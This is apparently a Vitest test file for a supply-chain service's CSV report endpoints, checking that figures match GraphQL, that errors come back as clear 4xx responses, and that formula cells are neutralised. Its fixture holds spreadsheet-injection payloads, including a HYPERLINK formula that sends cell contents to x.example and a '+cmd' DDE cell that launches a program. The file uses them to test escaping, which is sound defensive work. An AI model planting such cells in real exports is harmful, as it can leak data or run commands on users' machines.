// The CSV reports as a spreadsheet fetches them: a plain GET with no headers, UTF-8 with a BOM,
// one header row, numbers unformatted and equal to GraphQL's, and no cell a spreadsheet would run.

import http from 'node:http';
import { afterAll, beforeAll, describe, expect, it } from 'vitest';
import { seedIfEmpty } from '../src/io/seed.js';
import { doc, edge, node } from './helpers/fixtures.js';
import { startHarness, type Harness } from './helpers/harness.js';

let h: Harness;
beforeAll(async () => {
  h = await startHarness();
  await seedIfEmpty(h.db, 'default');
  // Names a spreadsheet would run as formulas, on parts China supplies (so disruption lists them).
  await h.load(doc(
    [
      node('part:evil-eq', 'Part', { name: '=HYPERLINK("http://x.example/?"&A1,"click")', nameFa: '=1+1' }),
      node('part:evil-plus', 'Part', { name: '+cmd|\' /C calc\'!A0', nameFa: '@SUM(A1)' }),
      node('part:evil-minus', 'Part', { name: '-2+3', nameFa: '-تب' }),
      node('supplier:evil-cn', 'Supplier', { name: 'Evil Co, "Ltd"', nameFa: 'شرکت', country: 'CN' }),
    ],
    ['part:evil-eq', 'part:evil-plus', 'part:evil-minus'].map((id) => edge('SUPPLIES', 'supplier:evil-cn', id, { share: 1 })),
  ));
});
afterAll(async () => {
  await h.close();
});

/** What Excel's and LibreOffice's "from web" do: GET the URL, no Accept, no cookies, nothing else. */
function plainGet(path: string): Promise<{ status: number; headers: http.IncomingHttpHeaders; body: Buffer }> {
  return new Promise((resolve, reject) => {
    const req = http.request(`${h.server.url}${path}`, { method: 'GET', headers: {} }, (res) => {
      const chunks: Buffer[] = [];
      res.on('data', (c: Buffer) => chunks.push(c));
      res.on('end', () => resolve({ status: res.statusCode ?? 0, headers: res.headers, body: Buffer.concat(chunks) }));
    });
    req.on('error', reject);
    req.end();
  });
}

/** A small RFC 4180 reader: quoted fields, doubled quotes, CRLF. */
function parseCsv(text: string): string[][] {
  const rows: string[][] = [];
  let row: string[] = [];
  let cell = '';
  let quoted = false;
  for (let i = 0; i < text.length; i += 1) {
    const c = text[i]!;
    if (quoted) {
      if (c === '"' && text[i + 1] === '"') (cell += '"'), (i += 1);
      else if (c === '"') quoted = false;
      else cell += c;
    } else if (c === '"') quoted = true;
    else if (c === ',') row.push(cell), (cell = '');
    else if (c === '\r' && text[i + 1] === '\n') {
      row.push(cell);
      rows.push(row);
      row = [];
      cell = '';
      i += 1;
    } else cell += c;
  }
  return rows;
}

async function csv(path: string): Promise<{ header: string[]; rows: Record<string, string>[]; raw: string }> {
  const res = await plainGet(path);
  expect(res.status, `${path}: ${res.body.toString('utf8')}`).toBe(200);
  expect(res.headers['content-type']).toBe('text/csv; charset=utf-8; header=present');
  expect([...res.body.subarray(0, 3)]).toEqual([0xef, 0xbb, 0xbf]);
  const raw = res.body.toString('utf8').slice(1);
  const [header, ...rest] = parseCsv(raw);
  for (const r of rest) expect(r).toHaveLength(header!.length);
  return { header: header!, rows: rest.map((r) => Object.fromEntries(header!.map((c, i) => [c, r[i]!]))), raw };
}

describe('CSV reports', () => {
  it('import content: the contributions GraphQL gives, digit for digit', async () => {
    const { header, rows } = await csv('/report/import-content.csv?id=product:peugeot-pars');
    expect(header.slice(0, 3)).toEqual(['item_id', 'item_name', 'item_name_fa']);
    const gql = (await h.query(`{ importContent(id: "product:peugeot-pars") { totalImportContent contributions { item { id } share } } }`)).importContent;
    expect(rows.map((r) => [r.contributor_id, Number(r.contribution)])).toEqual(gql.contributions.map((c: any) => [c.item.id, c.share]));
    expect(Number(rows[0]!.total_import_content)).toBe(gql.totalImportContent);
    expect(rows[0]!.item_name_fa).toBe('پژو پارس');
    // Unformatted: full precision, a dot for decimals, no thousands separators or percent signs.
    expect(rows[0]!.total_import_content).toMatch(/^0\.\d{6,}$/);
    const assumptions = await csv('/report/import-content.csv?id=product:peugeot-pars&table=assumptions');
    expect(assumptions.header).toEqual(['item_id', 'code', 'node_id', 'message']);
  });

  it('disruption: finished goods first, losses as GraphQL gives them', async () => {
    const { rows } = await csv('/report/disruption.csv?countries=cn');
    const gql = (await h.query(`{ disruption(scenario: { countries: ["CN"] }) { finishedGoodsHit { item { id } loss } losses { item { id } loss } } }`)).disruption;
    const finished = gql.finishedGoodsHit.length;
    expect(finished).toBeGreaterThanOrEqual(6);
    expect(rows.slice(0, finished).every((r) => r.finished_good === 'true')).toBe(true);
    expect(rows.slice(finished).every((r) => r.finished_good === 'false')).toBe(true);
    const byId = new Map(rows.map((r) => [r.item_id, Number(r.loss)]));
    expect(byId.size).toBe(gql.losses.length);
    for (const l of gql.losses) expect(byId.get(l.item.id), l.item.id).toBe(l.loss);
  });

  it('balance, chokepoints, links, parallel work and value flows match GraphQL', async () => {
    const balance = await csv('/report/balance.csv?stage=CONCENTRATE');
    const gb = (await h.query(`{ chainBalance(stage: CONCENTRATE) { item { id } homeCapacity imports demand balance } }`)).chainBalance;
    expect(balance.rows.map((r) => [r.item_id, Number(r.home_capacity), Number(r.imports), Number(r.demand), Number(r.balance)])).toEqual(gb.map((b: any) => [b.item.id, b.homeCapacity, b.imports, b.demand, b.balance]));
    expect(balance.rows.some((r) => r.balance.startsWith('-'))).toBe(true); // a real negative number, not escaped

    const choke = await csv('/report/chokepoints.csv?id=product:peugeot-pars&kinds=SUPPLIER,plant,Mine');
    const gc = (await h.query(`{ chokepoints(id: "product:peugeot-pars", kinds: [SUPPLIER, PLANT, MINE]) { node { id } impact } }`)).chokepoints;
    expect(choke.rows.map((r) => [r.node_id, Number(r.impact)])).toEqual(gc.map((c: any) => [c.node.id, c.impact]));
    expect(new Set(choke.rows.map((r) => r.kind))).toEqual(new Set(['SUPPLIER', 'PLANT']));

    const links = await csv('/report/import-reliant-links.csv?id=product:peugeot-pars&threshold=0.5');
    const gl = (await h.query(`{ importReliantLinks(id: "product:peugeot-pars", threshold: 0.5) { item { id } contribution countries } }`)).importReliantLinks;
    expect(links.rows.map((r) => [r.item_id, Number(r.contribution), r.countries])).toEqual(gl.map((l: any) => [l.item.id, l.contribution, l.countries.join(' ')]));

    const parallel = await csv('/report/parallel-work.csv');
    const gp = (await h.query(`{ parallelWork { item { id } projects { project { id } progress } } }`)).parallelWork;
    expect(parallel.rows.map((r) => [r.item_id, r.project_id, r.progress === '' ? null : Number(r.progress)])).toEqual(gp.flatMap((p: any) => p.projects.map((x: any) => [p.item.id, x.project.id, x.progress])));

    const flows = await csv('/report/value-flows.csv?id=product:dena-plus');
    const gf = (await h.query(`{ valueFlows(id: "product:dena-plus") { links { source target value importShare } } }`)).valueFlows;
    expect(flows.rows.map((r) => [r.source_key, r.target_key, Number(r.value), Number(r.import_share)])).toEqual(gf.links.map((l: any) => [l.source, l.target, l.value, l.importShare]));
  });

  it('makes cells that a spreadsheet would run as formulas inert, and quotes what needs quoting', async () => {
    const { rows, raw } = await csv('/report/disruption.csv?countries=CN');
    const evil = new Map(rows.filter((r) => r.item_id.startsWith('part:evil')).map((r) => [r.item_id, r]));
    expect(evil.get('part:evil-eq')!.item_name).toBe(`'=HYPERLINK("http://x.example/?"&A1,"click")`);
    expect(evil.get('part:evil-eq')!.item_name_fa).toBe(`'=1+1`);
    expect(evil.get('part:evil-plus')!.item_name).toBe(`'+cmd|' /C calc'!A0`);
    expect(evil.get('part:evil-plus')!.item_name_fa).toBe(`'@SUM(A1)`);
    expect(evil.get('part:evil-minus')!.item_name).toBe(`'-2+3`);
    expect(evil.get('part:evil-minus')!.item_name_fa).toBe(`'-تب`);
    // No line of the file starts a cell with a formula character outside quotes or an apostrophe.
    for (const line of raw.split('\r\n')) for (const cell of line.split(',')) expect(cell).not.toMatch(/^[=+@\t]/);
    const links = await csv('/report/chokepoints.csv?id=part:evil-eq');
    expect(links.rows.find((r) => r.node_id === 'supplier:evil-cn')!.node_name).toBe('Evil Co, "Ltd"');
  });

  it('the sanctioned scenario, which companies would stop an item, holdings and stale figures match GraphQL', async () => {
    const sanctioned = await csv('/report/disruption.csv?sanctioned=true&sanctionRegimes=US-OFAC');
    const gs = (await h.query(`{ disruption(scenario: { sanctioned: true, sanctionRegimes: ["US-OFAC"] }) { losses { item { id } loss } } }`)).disruption;
    expect(gs.losses.length).toBeGreaterThan(0);
    expect(new Map(sanctioned.rows.map((r) => [r.item_id, Number(r.loss)]))).toEqual(new Map(gs.losses.map((l: any) => [l.item.id, l.loss])));

    const companies = await csv('/report/organization-chokepoints.csv?id=product:peugeot-pars');
    const gc = (await h.query(`{ organizationChokepoints(id: "product:peugeot-pars") { organization { id } impact nodes { id } groups { id } } }`)).organizationChokepoints;
    expect(companies.header).toEqual(['organization_id', 'organization_name', 'organization_name_fa', 'type', 'impact', 'nodes', 'groups', 'node_ids']);
    expect(companies.rows.map((r) => [r.organization_id, Number(r.impact), Number(r.nodes), r.node_ids])).toEqual(gc.map((c: any) => [c.organization.id, c.impact, c.nodes.length, c.nodes.map((n: any) => n.id).join(' ')]));

    const holdings = await csv('/report/holdings.csv?id=org:msc');
    const gh = (await h.query(`{ holdings(id: "org:msc") { holdings { node { id } effectiveShare exact } sites { node { id } operator { id } effectiveShare } } }`)).holdings;
    expect(holdings.rows.filter((r) => r.what === 'holding').map((r) => [r.node_id, Number(r.effective_share), r.exact])).toEqual(gh.holdings.map((x: any) => [x.node.id, x.effectiveShare, String(x.exact)]));
    expect(holdings.rows.filter((r) => r.what === 'site').map((r) => [r.node_id, r.operator_id, Number(r.effective_share)])).toEqual(gh.sites.map((x: any) => [x.node.id, x.operator.id, x.effectiveShare]));

    const stale = await csv('/report/stale-figures.csv?olderThan=3');
    const gf = (await h.query(`{ staleFigures(olderThan: 3) { records { asOf figures node { id } edge { type from to } } } }`)).staleFigures;
    expect(stale.rows.map((r) => [r.as_of, r.node_id || `${r.edge_from} ${r.edge_type} ${r.edge_to}`, r.figures])).toEqual(
      gf.records.map((x: any) => [x.asOf, x.node ? x.node.id : `${x.edge.from} ${x.edge.type} ${x.edge.to}`, x.figures.join(' ')]),
    );
  });

  it('refuses what it cannot answer with a clear 4xx', async () => {
    const get = async (path: string) => {
      const res = await plainGet(path);
      return { status: res.status, body: JSON.parse(res.body.toString('utf8')) };
    };
    const unknownId = await get('/report/import-content.csv?id=product:peugot-pars');
    expect(unknownId.status, JSON.stringify(unknownId.body)).toBe(404);
    expect(unknownId.body).toMatchObject({ code: 'NOT_FOUND' });
    expect(unknownId.body.error).toMatch(/Did you mean product:peugeot-pars/);
    const typo = await get('/report/disruption.csv?countires=CN');
    expect(typo.status).toBe(400);
    expect(typo.body.error).toMatch(/unknown: countires/);
    expect((await get('/report/import-content.csv')).body.error).toMatch(/needs id/);
    expect((await get('/report/chokepoints.csv?id=product:peugeot-pars&kinds=BANANA')).status).toBe(400);
    expect((await get('/report/balance.csv?stage=MOLTEN')).status).toBe(400);
    expect((await get('/report/balance.csv?ids=mine:sungun')).status).toBe(400);
    expect((await get(`/report/balance.csv?ids=${Array.from({ length: 501 }, (_, i) => `x${i}`).join(',')}`)).status).toBe(400);
    expect((await get('/report/weather.csv')).status).toBe(404);
    const listing = await get('/report/');
    expect(listing.status).toBe(200);
    expect(listing.body.reports.map((r: any) => r.url)).toContain('/report/disruption.csv');
    const post = await fetch(`${h.server.url}/report/balance.csv`, { method: 'POST' });
    expect(post.status).toBe(405);
  });
});

describe('the report index in a browser', () => {
  it('answers an HTML page listing every report, its parameters and a link that works, when the client asks for HTML', async () => {
    const res = await fetch(`${h.server.url}/report/`, { headers: { accept: 'text/html,application/xhtml+xml,application/xml;q=0.9,*/*;q=0.8' } });
    expect(res.status).toBe(200);
    expect(res.headers.get('content-type')).toBe('text/html; charset=utf-8');
    expect(res.headers.get('content-security-policy')).toMatch(/default-src 'none'/);
    const html = await res.text();
    const json = (await (await fetch(`${h.server.url}/report/`)).json()) as { reports: { url: string; title: string; params: string[] }[] };
    expect(json.reports.length).toBeGreaterThan(10);
    for (const r of json.reports) {
      expect(html, r.url).toContain(`href="${r.url}`);
      for (const p of r.params) expect(html, `${r.url} ${p}`).toContain(`<code>${p}</code>`);
    }
    // Titles are escaped, not markup: "Home capacity against demand per item (chainBalance)" and the like.
    expect(html).not.toMatch(/<script/i);
    // The balance report's example link needs no parameter and answers a CSV.
    const href = /href="(\/report\/balance\.csv[^"]*)"/.exec(html)![1]!.replace(/&amp;/g, '&');
    const csvRes = await fetch(`${h.server.url}${href}`);
    expect(csvRes.status).toBe(200);
    expect(csvRes.headers.get('content-type')).toMatch(/^text\/csv/);
  });
});

describe('the foreign-currency reports as CSV', () => {
  it('gives the import bills, a project’s saving and a plan the same figures as GraphQL', async () => {
    const bills = await csv('/report/import-bills.csv?first=10');
    const gqlBills = (await h.query('{ importBills(first: 10) { item { id } importBillUsd importVolume } }')).importBills;
    expect(bills.rows.map((r) => [r.item_id, Number(r.import_bill_usd), Number(r.import_volume)])).toEqual(gqlBills.map((b: any) => [b.item.id, b.importBillUsd, b.importVolume]));

    const impact = await csv('/report/localization-impact.csv?id=project:electrode-mobarakeh');
    const gqlImpact = (await h.query('{ localizationImpact(projectId: "project:electrode-mobarakeh") { netSavingUsd items { netSavingUsd } } }')).localizationImpact;
    expect(Number(impact.rows[0]!.net_saving_usd)).toBe(gqlImpact.items[0].netSavingUsd);

    const plan = await csv('/report/localization-plan.csv?budget=5e8');
    const gqlPlan = (await h.query('{ localizationPlan(budgetUsd: 5e8) { steps { project { id } cumulativeSavingUsd } skipped { project { id } reason } } }')).localizationPlan;
    const picked = plan.rows.filter((r) => r.picked === 'true');
    expect(picked.map((r) => r.project_id)).toEqual(gqlPlan.steps.map((s: any) => s.project.id));
    expect(Number(picked.at(-1)!.cumulative_saving_usd)).toBe(gqlPlan.steps.at(-1).cumulativeSavingUsd);
    expect(plan.rows.filter((r) => r.picked === 'false').map((r) => [r.project_id, r.reason])).toEqual(gqlPlan.skipped.map((s: any) => [s.project.id, s.reason]));
    // The second tyre-cord plant is parallel work: its marginal saving is 0, what it would save
    // alone sits in its own column (issue 21: it used to fill net_saving_usd).
    const tyre2 = plan.rows.find((r) => r.project_id === 'project:tyre-cord-2')!;
    const gqlTyre2 = (await h.query('{ localizationImpact(projectId: "project:tyre-cord-2") { netSavingUsd } }')).localizationImpact;
    expect([tyre2.reason, Number(tyre2.net_saving_usd), Number(tyre2.standalone_net_saving_usd)]).toEqual(['REDUNDANT', 0, gqlTyre2.netSavingUsd]);
    expect(gqlTyre2.netSavingUsd).toBeGreaterThan(0);
    // The caveats a pick rests on travel with it: coking coal's saving assumes its home making imports nothing.
    expect(plan.rows.find((r) => r.project_id === 'project:coking-coal-tabas')!.assumptions).toMatch(/NO_HOME_RECIPE product:coking-coal: .*h = 0/);
    expect(plan.rows.find((r) => r.project_id === 'project:needle-coke')).toMatchObject({ reason: 'NO_IMPORT_VOLUME', assumptions: expect.stringContaining('NO_IMPORT_VOLUME') });
    expect(plan.header).toContain('name_fa');
    // When each pick is expected to finish (issue 14), for laying the plan out in time in a spreadsheet.
    const completion = (await h.query('{ localizationPlan(budgetUsd: 5e8) { steps { project { id ... on Project { expectedCompletion } } } } }')).localizationPlan;
    expect(picked.map((r) => r.expected_completion)).toEqual(completion.steps.map((s: any) => s.project.expectedCompletion ?? ''));
    expect(picked.some((r) => /^\d{4}/.test(r.expected_completion!))).toBe(true);

    const content = await csv('/report/localization-plan.csv?budget=5e8&content=product:peugeot-pars');
    expect(content.header).toContain('domestic_content_after');
    expect(Number(content.rows[0]!.domestic_content_after)).toBeGreaterThan(Number(content.rows[0]!.domestic_content_before));
  });

  it('refuses a plan without a budget, and an unknown parameter, with a clear 400', async () => {
    const missing = await plainGet('/report/localization-plan.csv');
    expect(missing.status).toBe(400);
    expect(missing.body.toString('utf8')).toMatch(/localization-plan needs budget/);
    const typo = await plainGet('/report/import-bills.csv?stag=ORE');
    expect(typo.status).toBe(400);
    expect(typo.body.toString('utf8')).toMatch(/unknown: stag/);
  });
});
